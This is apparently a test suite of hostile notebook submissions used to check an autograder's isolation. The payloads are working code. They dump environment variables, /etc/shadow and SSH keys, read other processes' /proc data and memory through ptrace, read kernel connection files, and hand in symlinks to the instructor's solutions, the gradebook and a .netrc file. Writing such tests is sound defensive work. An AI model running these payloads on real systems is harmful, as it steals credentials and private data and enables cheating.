"""Secrets of the machine: files, variables, processes and descriptors that code could read."""

from nbformat.notebooknode import NotebookNode

from .. import target
from ..submission import COURSE, NEIGHBOUR, Book, Link, hostile

SHOW = """
    import glob
    import os

    def show(*patterns):
        for pattern in patterns:
            for path in glob.glob(pattern, recursive=True, include_hidden=True):
                try:
                    if os.path.isfile(path):
                        print(path, open(path, "rb").read(300_000).decode(errors="replace"))
                    else:
                        print(path, os.listdir(path) if os.path.isdir(path) else "")
                except OSError as error:
                    print(path, error)
    """


@hostile()
def environment(book: Book) -> NotebookNode:
    """Variables of the command that grades."""
    return book.opening("""
        import os
        import subprocess

        print(dict(os.environ))
        print(subprocess.run("env", capture_output=True, text=True).stdout)
        print(open("/proc/self/environ").read())
        """)


@hostile()
def environment_of_other_processes(book: Book) -> NotebookNode:
    """Variables and arguments of every process in /proc."""
    return book.opening(SHOW + '\n    show("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline")')


@hostile()
def home_of_the_instructor(book: Book) -> NotebookNode:
    """Files in the home folder, hidden ones too."""
    return book.opening(
        SHOW + '\n    show("/home/*/*", "/home/*/.*", "/root/*", "/root/.*", "~/*", '
        'os.path.expanduser("~") + "/**")'
    )


@hostile()
def course_folder(book: Book) -> NotebookNode:
    """Configuration, gradebook, sources and releases of the course."""
    return book.opening(SHOW + f'\n    show("{COURSE}/*", "{COURSE}/assignments/**")')


@hostile()
def other_submissions(book: Book) -> NotebookNode:
    """What neighbours handed in and what became of it."""
    return book.opening(
        SHOW + f'\n    show("{NEIGHBOUR}/*", "{COURSE}/assignments/autograded/*/*/*", '
        '"../../*/*/*", "../../../*/*/*/*")'
    )


@hostile()
def temporary_files_of_others(book: Book) -> NotebookNode:
    """What other programs left in /tmp, /var/tmp, /dev/shm and /run."""
    return book.opening(SHOW + '\n    show("/tmp/**", "/var/tmp/**", "/dev/shm/**", "/run/**")')


@hostile(forbidden=("root:x:0", "ssh-rsa"))
def machine_files(book: Book) -> NotebookNode:
    """Users, hosts, keys and mounts of the machine."""
    return book.opening(
        SHOW + '\n    show("/etc/passwd", "/etc/shadow", "/etc/ssh/*", "/etc/hosts", '
        '"/root/.ssh/*", "/home/*/.ssh/*", "/var/log/*")'
    )


@hostile()
def root_of_other_processes(book: Book) -> NotebookNode:
    """The file system as other processes see it, by /proc/PID/root and /proc/PID/cwd."""
    return book.opening(
        SHOW + '\n    show("/proc/[0-9]*/cwd/*", "/proc/[0-9]*/root/home/*/.*", '
        '"/proc/[0-9]*/root/tmp/*", "/proc/[0-9]*/root/home/*/course/*", '
        '"/proc/self/task/*/root/home/*/*")'
    )


@hostile()
def open_descriptors(book: Book) -> NotebookNode:
    """Files that the grader had open when it started the kernel."""
    return book.opening("""
        import os

        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            try:
                names = os.listdir(f"/proc/{pid}/fd")
            except OSError as error:
                print(pid, error)
                continue
            for name in names:
                path = f"/proc/{pid}/fd/{name}"
                try:
                    print(path, os.readlink(path))
                    if "socket" not in os.readlink(path) and "pipe" not in os.readlink(path):
                        handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                        if os.path.isdir(path):
                            print(os.listdir(handle), os.listdir(path + "/.."))
                        print(os.read(handle, 100_000))
                except OSError as error:
                    print(path, error)
        """)


@hostile()
def inherited_folders(book: Book) -> NotebookNode:
    """Paths are resolved upwards from every descriptor and from the working folder."""
    return book.opening("""
        import os

        handles = [os.open(".", os.O_RDONLY)]
        for number in range(3, 200):
            try:
                os.fstat(number)
                handles.append(number)
            except OSError:
                pass
        for handle in handles:
            for way in (".." + "/.." * depth for depth in range(8)):
                for rest in ("", "/home/teacher", "/home/teacher/course", "/tmp", "/etc"):
                    try:
                        inside = os.open(way + rest, os.O_RDONLY, dir_fd=handle)
                        names = os.listdir(inside)
                        print(way + rest, names)
                        for name in names:
                            path = os.open(name, os.O_RDONLY | os.O_NONBLOCK, dir_fd=inside)
                            print(os.read(path, 10_000))
                    except OSError:
                        pass
        """)


@hostile()
def memory_of_the_parent(book: Book) -> NotebookNode:
    """The memory of parent processes, by /proc/PID/mem and process_vm_readv."""
    return book.opening("""
        import ctypes
        import os
        import re

        libc = ctypes.CDLL(None, use_errno=True)
        for pid in {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())}:
            if pid == os.getpid():
                continue
            print(pid, "attach", libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
            try:
                with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    for line in maps:
                        start, end = (int(x, 16) for x in line.split()[0].split("-"))
                        if " rw" in line:
                            try:
                                memory.seek(start)
                                for word in re.findall(rb"[a-z]{5,12}_[a-z_]{3,18}",
                                                       memory.read(min(end - start, 2**24))):
                                    if b"dunlin" in word or b"wagtail" in word or b"heron" in word:
                                        print(word)
                            except (OSError, ValueError, OverflowError):
                                pass
            except OSError as error:
                print(pid, error)
        """)


@hostile()
def kernel_connection_files(book: Book) -> NotebookNode:
    """Connection files and sockets of kernels, by which one could command another's."""
    return book.opening(
        SHOW + '\n    show("/home/*/.local/share/jupyter/runtime/*", "/root/.local/share/jupyter/'
        'runtime/*", "/run/user/*/*", "/tmp/*/kernel*", "/tmp/kernel*", "/proc/net/unix", '
        '"/proc/net/tcp")\n    print(get_ipython().kernel.config)'
    )


@hostile()
def notebook_is_a_link_to_the_source(book: Book) -> dict[str, Link]:
    """What is handed in is a symbolic link to the instructor's solved notebook."""
    return {book.file_name: Link(f"{COURSE}/assignments/source/homework/homework.ipynb")}


@hostile()
def notebook_is_a_link_to_a_neighbour(book: Book) -> dict[str, Link]:
    """What is handed in is a symbolic link to a neighbour's right work."""
    return {book.file_name: Link(f"{NEIGHBOUR}/homework.ipynb")}


def linked(book: Book, **links: str) -> dict[str, object]:
    notebook = book.opening(SHOW + '\n    show("*", "*/*", "*/*/*")')
    return {book.file_name: notebook, **{name: Link(to) for name, to in links.items()}}


@hostile()
def data_files_are_links_to_secrets(book: Book) -> dict[str, object]:
    """Data files handed in are links to what lies in the course and in the home folder."""
    return linked(
        book,
        data=f"{COURSE}/assignments/source/homework/homework.ipynb",
        grades=f"{COURSE}/assignments/gradebook.db",
        notes="/home/teacher/.netrc",
        settings=f"{COURSE}/nbgrader_config.py",
        variables="/proc/self/environ",
        parents="/proc/self/../1/environ",
    )


@hostile()
def data_folder_is_a_link_to_the_course(book: Book) -> dict[str, object]:
    """A folder handed in is a link to the course, another to the home folder and the root."""
    return linked(book, course=str(COURSE), home="/home/teacher", other=str(NEIGHBOUR), top="/")


@hostile()
def timestamp_is_a_link(book: Book) -> dict[str, object]:
    """The time of handing in is a link to a secret, for a message about what cannot be read."""
    return linked(book, **{"timestamp.txt": "/home/teacher/.netrc"})


@hostile(target.FULL)
def link_swapped_while_running(book: Book) -> NotebookNode:
    """In its folder, code replaces files by links to secrets for whoever collects them."""
    return book.closing(
        f"""
        import os

        for name in os.listdir("."):
            os.rename(name, name + ".away")
            os.symlink("{COURSE}/nbgrader_config.py", name)
        for name in ("plot.png", "output.txt", "grading.json", "homework.ipynb"):
            os.symlink("/home/teacher/.netrc", name)
        os.symlink("/home/teacher", "home")
        """
    )
